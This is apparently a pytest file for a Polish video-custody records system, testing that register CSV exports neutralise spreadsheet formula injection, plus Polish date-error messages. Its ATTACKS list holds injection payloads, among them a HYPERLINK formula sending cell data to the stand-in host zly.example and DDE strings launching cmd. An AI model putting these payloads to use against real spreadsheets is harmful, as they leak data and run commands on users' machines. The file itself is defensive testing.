"""Register CSV files cannot carry spreadsheet formulas (issue 11, item 8; OWASP "CSV
injection"). A requester's name and purpose are typed by office staff from letters written by
anyone; a register opened in a spreadsheet must show them as text, never run them."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

import pytest
from tests.custody.custody_helpers import people
from web_helpers import Material, client, session_for

from kustosz.custody.registers import FORMULA_STARTS, spreadsheet_safe
from kustosz.vault import Vault

# One cell for each start a spreadsheet reads as a formula (and the DDE classic).
ATTACKS = ['=HYPERLINK("http://zly.example/?d="&A1,"Kliknij")', "+48 600 100 200",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_register_cells_that_would_start_a_formula_are_neutralised(
        sqlite_material: Material) -> None:
    """The requester and the purpose go in through the web form exactly as typed, and come
    back from the register CSV (read with the csv module) prefixed with a single quote;
    nothing else in the file starts a formula, and plain text is untouched."""
    m = sqlite_material
    c = client(m.vault)
    csrf = session_for(m.vault, c, "informatyk")
    tz = m.vault.policy.timezone
    today = datetime.now(tz).date()
    event = m.window[0].astimezone(tz)
    for attack in ATTACKS:
        r = c.post("/requests", data={
            "csrf": csrf, "kind": "authority", "material": "video", "requester": attack,
            "purpose": attack, "received_on": today.isoformat(),
            "event_date": event.date().isoformat(), "description": "kradzież",
            "camera": "cam-hol", "approx_time": event.strftime("%H:%M")})
        assert r.status_code == 303, r.text[:500]
    r = c.get("/api/registers/disclosures", headers={"X-CSRF-Token": csrf}, params={
        "from": (today - timedelta(days=1)).isoformat(), "to": today.isoformat(),
        "format": "csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    # the default form, what Polish Excel opens (issue 29 item 11): a BOM, ";" between cells
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline=""),
                           delimiter=";"))
    header, body = rows[0], rows[1:]
    requester, purpose = header.index("Wnioskodawca"), header.index("Cel udostępnienia")
    # (the request keeps the text stripped of surrounding white space, as for any field)
    expected = {"'" + a.strip() for a in ATTACKS}
    got = {row[requester] for row in body}
    assert expected <= got
    assert "KPP Pleszew" in got  # the material's own request: plain text stays as it was
    assert {row[purpose] for row in body} >= expected
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_the_rule_itself() -> None:
    """OWASP: =, +, -, @, tab and carriage return at the start get a single quote."""
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(start + "1") == "'" + start + "1"
    assert spreadsheet_safe("Jan Kowalski") == "Jan Kowalski"
    assert spreadsheet_safe("a=b") == "a=b"  # only the start matters
    assert spreadsheet_safe(None) == ""


@pytest.mark.parametrize("query, said", [
    ("start=wczoraj&end=2026-01-31", "RRRR-MM-DD"),
    ("start=2026-02-01&end=2026-01-31", "wcześniejsz"),
])
def test_bad_register_dates_are_said_in_polish(sqlite_vault: Vault, query: str,
                                               said: str) -> None:
    people(sqlite_vault)
    c = client(sqlite_vault)
    session_for(sqlite_vault, c, "informatyk")
    r = c.get(f"/registers/copies.pdf?{query}")
    assert r.status_code == 422 and said in r.text, r.text
    assert "isoformat" not in r.text and "--to" not in r.text
